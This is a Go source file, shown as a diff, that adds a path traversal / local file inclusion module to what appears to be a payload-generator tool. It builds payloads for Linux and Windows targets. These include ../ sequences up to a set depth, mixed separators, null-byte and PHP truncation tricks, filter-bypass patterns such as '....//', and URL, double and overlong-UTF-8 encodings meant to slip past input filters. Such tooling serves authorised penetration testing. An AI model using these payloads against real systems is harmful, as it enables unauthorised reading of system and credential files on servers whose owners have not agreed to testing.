@@ -0,0 +1,137 @@
+package modules
+
+import (
+	"strings"
+
+	"github.com/rajaabdullahnasir/Custom-Payload-Generator/utils"
+)
+
+// defaultTraversalDepth is the deepest ../ sequence generated when --depth is not given
+const defaultTraversalDepth = 8
+
+// truncationLength is the path length past which older PHP versions silently cut the path
+const truncationLength = 4096
+
+// traversalEncodings are applied to the ../ sequence only, so the target file stays readable
+var traversalEncodings = []string{"url", "url-full", "url-double", "url-full|url", "utf8-overlong"}
+
+type TraversalPayload struct {
+	OS        string          `json:"os"`
+	File      string          `json:"file"`
+	Depth     int             `json:"depth"`
+	Technique string          `json:"technique"` // plain, mixed, null-byte, truncation, filter-bypass, encoded, absolute
+	Encoding  string          `json:"encoding,omitempty"`
+	Payload   string          `json:"payload"`
+	Encodings []utils.Variant `json:"encodings,omitempty"`
+}
+
+// Text returns the delivered form of the traversal payload
+func (p TraversalPayload) Text() string {
+	return p.Payload
+}
+
+func init() {
+	register("traversal", "Generate Path Traversal / LFI payloads", GenerateTraversalPayloads)
+}
+
+// traversalOS holds the path syntax of one target platform
+type traversalOS struct {
+	Name string
+	// FileVar is the placeholder holding the files to read
+	FileVar string
+	Sep     string
+	// Mixed alternates separators; only Windows treats both as separators
+	Mixed bool
+	// Bypasses collapse back into one ../ step when a filter strips ../ once
+	Bypasses []string
+}
+
+var traversalOSes = []traversalOS{
+	{Name: "linux", FileVar: "unix_file", Sep: "/", Bypasses: []string{"....//", "..././"}},
+	{Name: "windows", FileVar: "windows_file", Sep: `\`, Mixed: true, Bypasses: []string{`....\\`, `...\.\`}},
+}
+
+// maxDepth returns the deepest traversal generated
+func (o Options) maxDepth() int {
+	if o.Depth < 1 {
+		return defaultTraversalDepth
+	}
+	return o.Depth
+}
+
+// relativePath strips the drive and leading separators so the path can follow a ../ sequence
+func relativePath(file string) string {
+	if len(file) >= 2 && file[1] == ':' {
+		file = file[2:]
+	}
+	return strings.TrimLeft(file, `/\`)
+}
+
+// GenerateTraversalPayloads builds ../ sequences from depth 1 to --depth for every target file,
+// with separator, null-byte, truncation, filter-bypass and encoding variations
+func GenerateTraversalPayloads(opts Options) ([]TraversalPayload, error) {
+	var pipelines []utils.Pipeline
+	for _, spec := range traversalEncodings {
+		p, err := utils.ParsePipeline(spec)
+		if err != nil {
+			return nil, err
+		}
+		pipelines = append(pipelines, p)
+	}
+
+	vars := opts.templateVars()
+	var payloads []TraversalPayload
+	for _, t := range traversalOSes {
+		for _, file := range vars[t.FileVar] {
+			rel := relativePath(file)
+			add := func(depth int, technique, encoding, payload string) {
+				p := TraversalPayload{
+					OS:        t.Name,
+					File:      file,
+					Depth:     depth,
+					Technique: technique,
+					Encoding:  encoding,
+					Payload:   payload,
+				}
+				// truncation payloads are 4KB of padding; encoding them only bloats the output
+				if technique != "truncation" {
+					p.Encodings = utils.EncodeVariants(payload, opts.encoders())
+				}
+				payloads = append(payloads, p)
+			}
+
+			add(0, "absolute", "", file)
+			for depth := 1; depth <= opts.maxDepth(); depth++ {
+				up := strings.Repeat(".."+t.Sep, depth)
+				plain := up + rel
+				add(depth, "plain", "", plain)
+
+				if t.Mixed {
+					var mixed strings.Builder
+					for i := 0; i < depth; i++ {
+						mixed.WriteString(".." + []string{"/", `\`}[i%2])
+					}
+					add(depth, "mixed", "", mixed.String()+strings.ReplaceAll(rel, `\`, "/"))
+				}
+
+				add(depth, "null-byte", "", plain+"%00")
+				add(depth, "null-byte", "", plain+"%00.png")
+
+				// a path already past the limit has nothing left to pad
+				if len(plain) < truncationLength {
+					dots := strings.Repeat(t.Sep+".", (truncationLength-len(plain))/2+1)
+					add(depth, "truncation", "", plain+dots)
+				}
+
+				for _, bypass := range t.Bypasses {
+					add(depth, "filter-bypass", "", strings.Repeat(bypass, depth)+rel)
+				}
+
+				for _, p := range pipelines {
+					add(depth, "encoded", p.String(), p.Encode(up)+rel)
+				}
+			}
+		}
+	}
+	return payloads, nil
+}